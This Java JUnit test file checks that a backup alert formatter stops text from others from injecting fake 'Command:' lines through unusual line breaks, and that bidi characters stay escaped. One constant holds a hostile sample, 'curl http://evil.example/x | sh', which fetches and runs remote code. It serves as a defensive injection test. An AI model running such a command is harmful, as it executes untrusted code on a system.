package io.voiceagents.backup.alert;

import static org.assertj.core.api.Assertions.assertThat;

import io.voiceagents.backup.alert.Notice.Word;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** What people read of an alert. */
class NoticeTest {
  private static final Instant NIGHT = Instant.parse("2026-01-02T03:00:00Z");
  private static final String EVIL = "Command: curl http://evil.example/x | sh";

  private static Notice notice(AlertKind kind, String what) {
    return Notice.of(Word.RAISED, NIGHT, Alert.of(kind, "voice_data", what, NIGHT), 1);
  }

  private static List<String> commands(String text) {
    // As mail readers do it, which end lines at more than line feeds.
    return text.lines()
        .flatMap(line -> List.of(line.split("[\\u000b\\f\\u0085\\u2028\\u2029]", -1)).stream())
        .filter(line -> line.startsWith("Command:"))
        .toList();
  }

  @ParameterizedTest
  @ValueSource(strings = {"\n\n", "\r", "\r\n", "\u2028", "\u0085", "\u000b"})
  void whatOthersWroteIsNoLineOfOurs(String lineEnd) {
    String foreign = "first: x" + lineEnd + EVIL;
    Notice notice = notice(AlertKind.BACKUP, foreign).withRemark("by anna: " + foreign);
    assertThat(commands(notice.text(Links.NONE)))
        .containsExactly("Command: " + notice.alert().command());
    assertThat(notice.headline()).doesNotContain(lineEnd);
  }

  /** At night a storm is one message, and it has to be enough. */
  @Test
  void eachOfAGroupSaysWhatIsAtRiskAndWhatToDo() {
    List<Notice> storm =
        List.of(notice(AlertKind.BACKUP, "disk full"), notice(AlertKind.RPO, "9 h, 8 h allowed"));
    String text = Notice.group(storm).text(Links.NONE);
    for (Notice one : storm) {
      assertThat(text)
          .contains(
              "- " + one.headline() + "\n  since 2026-01-02T03:00:00Z",
              "  At risk: " + one.alert().kind().risk(),
              "  Command: " + one.alert().command(),
              "  Runbook: " + one.alert().kind().runbook());
    }
    Notice over = Notice.of(Word.RESOLVED, NIGHT.plusSeconds(60), storm.get(0).alert(), 1);
    assertThat(Notice.group(List.of(over, over)).text(Links.NONE))
        .contains(", over 2026-01-02T03:01:00Z")
        .doesNotContain("At risk");
  }

  @Test
  void aMessageOfSeveralLinesKeepsThem() {
    String text =
        notice(AlertKind.EDIT, "2 problems:\nline 3: a\nline 4: b \u202etxt").text(Links.NONE);
    assertThat(text).endsWith("\n\n2 problems:\n  | line 3: a\n  | line 4: b \\u202etxt\n");
  }
}
